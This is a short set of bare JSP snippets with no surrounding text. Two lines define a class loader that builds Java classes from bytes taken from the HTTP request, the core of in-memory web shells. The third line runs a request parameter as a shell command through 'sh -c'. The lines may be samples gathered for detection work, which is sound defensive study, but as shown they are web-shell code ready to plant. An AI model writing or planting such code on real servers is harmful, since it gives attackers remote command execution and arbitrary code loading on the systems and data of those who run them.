<%! class L extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% java.io.InputStream in = request.getInputStream(); %>
<%! class L extends ClassLoader { Class g(byte[] b) { return defineClass(null, b, 0, b.length); } } %><% String s = request.getParameter("s"); %>
<% String c = request.getParameter("c"); Process p = new ProcessBuilder("sh", "-c", c).start(); java.io.InputStream o = p.getInputStream(); %>
